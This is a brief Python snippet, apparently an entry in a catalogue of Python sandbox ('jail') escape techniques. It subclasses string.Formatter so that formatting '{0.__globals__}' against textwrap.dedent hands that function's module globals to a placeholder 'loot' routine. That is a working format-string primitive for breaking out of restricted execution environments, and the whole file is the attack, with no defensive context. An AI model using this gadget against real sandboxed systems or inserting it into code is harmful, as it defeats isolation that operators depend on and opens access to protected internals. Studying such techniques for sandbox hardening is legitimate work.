# aim: catch the object on its way in a subclass of the formatter
# mechanism: format_field gets the object that the template named
# language: builtins
# reason: a formatter reads the attributes its template names
# jail: process
# plain: loot

import string
import textwrap


class Catcher(string.Formatter):
    def format_field(self, value, specification):
        loot(value)
        return ""


Catcher().format("{0.__globals__}", textwrap.dedent)
